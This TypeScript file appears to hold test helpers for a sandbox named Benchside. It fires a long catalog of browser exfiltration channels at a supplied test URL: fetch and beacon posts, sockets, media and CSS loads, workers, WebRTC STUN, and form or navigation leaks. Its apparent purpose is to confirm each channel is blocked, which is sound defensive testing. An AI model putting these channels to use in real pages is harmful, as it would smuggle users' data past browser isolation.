/** Where an attack sends to, and which realm it is sent from. */
export interface Target {
  readonly url: string;
  readonly stun: string;
  readonly realm: string;
}

/*
 * What a malicious script in Benchside could try, each by a channel of its own. These functions are handed to the
 * browser as text, so that nothing outside them may be used within. A channel that throws or is missing is stopped.
 */

/** Tries every channel that leaves the page standing; resolves with the names tried. */
export async function attackFromPage({ url, stun, realm }: Target): Promise<string[]> {
  const at = (channel: string) => `${url}/${channel}/${realm}`;
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const link = (rel: string, channel: string, more: Record<string, string> = {}) => {
    document.head.append(add('link', { rel, href: at(channel), ...more }));
  };
  const style = (css: string) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(css);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  };
  const globals = globalThis as unknown as Record<string, new (...args: unknown[]) => Record<string, unknown>>;
  const attacks: Record<string, () => unknown> = {
    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
    fetchPost: () => fetch(at('fetchPost'), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', at('xhr'));
      request.send();
    },
    beacon: () => navigator.sendBeacon(at('beacon'), 'secret'),
    webSocket: () => new WebSocket(at('webSocket').replace('http', 'ws')),
    eventSource: () => new EventSource(at('eventSource')),
    webTransport: () => new globals['WebTransport']!(at('webTransport').replace('http', 'https')),
    image: () => (new Image().src = at('image')),
    imageSet: () => add('img', { srcset: `${at('imageSet')} 2x` }),
    imageInput: () => add('input', { type: 'image', src: at('imageInput') }),
    svgImage: () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', at('svgImage'));
      svg.append(image);
      document.body.append(svg);
    },
    background: () => {
      style(`.background { background: url("${at('background')}"); height: 1px; display: block }`);
      add('div', { class: 'background' });
    },
    inlineStyle: () => (add('div', {}).style.backgroundImage = `url("${at('inlineStyle')}")`),
    font: () => new FontFace('stolen', `url("${at('font')}")`).load(),
    video: () => add('video', { src: at('video'), preload: 'auto' }),
    poster: () => add('video', { poster: at('poster') }),
    audio: () => (new Audio(at('audio')).preload = 'auto'),
    stylesheet: () => link('stylesheet', 'stylesheet'),
    icon: () => link('icon', 'icon'),
    preload: () => link('preload', 'preload', { as: 'image' }),
    prefetch: () => link('prefetch', 'prefetch'),
    modulePreload: () => link('modulepreload', 'modulePreload'),
    speculation: () => {
      const script = document.createElement('script');
      script.type = 'speculationrules';
      script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [at('speculation')] }] });
      document.head.append(script);
    },
    script: () => add('script', { src: at('script') }),
    dynamicImport: () => import(/* @vite-ignore */ at('dynamicImport')),
    frame: () => add('iframe', { src: at('frame') }),
    object: () => add('object', { data: at('object') }),
    embed: () => add('embed', { src: at('embed') }),
    frameByMarkup: () => (add('div', {}).innerHTML = `<iframe src="${at('frameByMarkup')}"></iframe>`),
    imageByMarkup: () => (add('div', {}).innerHTML = `<img src="${at('imageByMarkup')}">`),
    workerByAddress: () => new Worker(at('workerByAddress')),
    workerFromBlob: () => {
      const source = `fetch(${JSON.stringify(at('workerFromBlob'))}, { mode: 'no-cors' })`;
      return new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    },
    ping: () => {
      const anchor = add('a', { href: '#ping', ping: at('ping') });
      anchor.click();
    },
    fetchLater: () =>
      (globalThis as unknown as { fetchLater: (url: string, options: object) => unknown }).fetchLater(
        at('fetchLater'),
        { activateAfter: 0 },
      ),
    webrtc: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      peer.createDataChannel('secret');
      await peer.setLocalDescription(await peer.createOffer());
    },
    webrtcOfFrame: async () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const fresh = frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection };
      const peer = new fresh.RTCPeerConnection({ iceServers: [{ urls: stun }] });
      peer.createDataChannel('secret');
      await peer.setLocalDescription(await peer.createOffer());
    },
  };
  for (const attack of Object.values(attacks)) {
    try {
      const outcome = attack();
      if (outcome instanceof Promise) outcome.catch(() => {});
      if (outcome instanceof Worker) outcome.addEventListener('error', (event) => event.preventDefault());
    } catch {
      // Refused on the spot.
    }
  }
  await new Promise((resolve) => requestAnimationFrame(resolve));
  return Object.keys(attacks);
}

/** The same from within a worker. */
export function attackFromWorker({ url, realm }: Target): string[] {
  const at = (channel: string) => `${url}/${channel}/${realm}`;
  const scope = globalThis as unknown as {
    importScripts: (url: string) => void;
    fonts: { add: (font: FontFace) => void };
    WebTransport: new (url: string) => unknown;
  };
  const attacks: Record<string, () => unknown> = {
    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
    fetchPost: () => fetch(at('fetchPost'), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', at('xhr'));
      request.send();
    },
    webSocket: () => new WebSocket(at('webSocket').replace('http', 'ws')),
    eventSource: () => new EventSource(at('eventSource')),
    webTransport: () => new scope.WebTransport(at('webTransport').replace('http', 'https')),
    font: () => new FontFace('stolen', `url("${at('font')}")`).load(),
    importScripts: () => scope.importScripts(at('importScripts')),
    cache: () => caches.open('stolen').then((cache) => cache.add(new Request(at('cache'), { mode: 'no-cors' }))),
    workerByAddress: () => new Worker(at('workerByAddress')),
    workerFromBlob: () => {
      const source = `fetch(${JSON.stringify(at('workerFromBlob'))}, { mode: 'no-cors' })`;
      return new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    },
  };
  for (const attack of Object.values(attacks)) {
    try {
      const outcome = attack();
      if (outcome instanceof Promise) outcome.catch(() => {});
      if (outcome instanceof Worker) outcome.addEventListener('error', (event) => event.preventDefault());
    } catch {
      // Refused on the spot.
    }
  }
  return Object.keys(attacks);
}

/** The ways to leave a page for an address that carries something with it. */
export const departures = [
  'assign',
  'replace',
  'link',
  'linkBlank',
  'linkUnattached',
  'download',
  'metaRefresh',
  'formGet',
  'formPost',
  'formBlank',
  'open',
  'ownHost',
] as const;
export type Departure = (typeof departures)[number];

/** Tries one way to leave. `ownHost` goes to the page's own address, with something added. */
export function leave({ url, realm, way }: Target & { readonly way: Departure }): void {
  const at = `${url}/${way}/${realm}`;
  const link = (attributes: Record<string, string>) => {
    const anchor = document.createElement('a');
    anchor.href = at;
    for (const [name, value] of Object.entries(attributes)) anchor.setAttribute(name, value);
    return anchor;
  };
  const form = (attributes: Record<string, string>) => {
    const element = document.createElement('form');
    element.action = at;
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    element.submit();
  };
  const ways: Record<Departure, () => void> = {
    assign: () => location.assign(at),
    replace: () => location.replace(at),
    link: () => {
      const anchor = link({});
      document.body.append(anchor);
      anchor.click();
    },
    linkBlank: () => {
      const anchor = link({ target: '_blank' });
      document.body.append(anchor);
      anchor.click();
    },
    linkUnattached: () => link({ target: '_blank' }).click(),
    download: () => link({ download: 'secret' }).click(),
    metaRefresh: () => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0; url=${at}`;
      document.head.append(meta);
    },
    formGet: () => form({}),
    formPost: () => form({ method: 'post' }),
    formBlank: () => form({ target: '_blank' }),
    open: () => void open(at),
    ownHost: () => location.assign(`${location.pathname}?secret=${realm}`),
  };
  try {
    ways[way]();
  } catch {
    // Refused on the spot.
  }
}
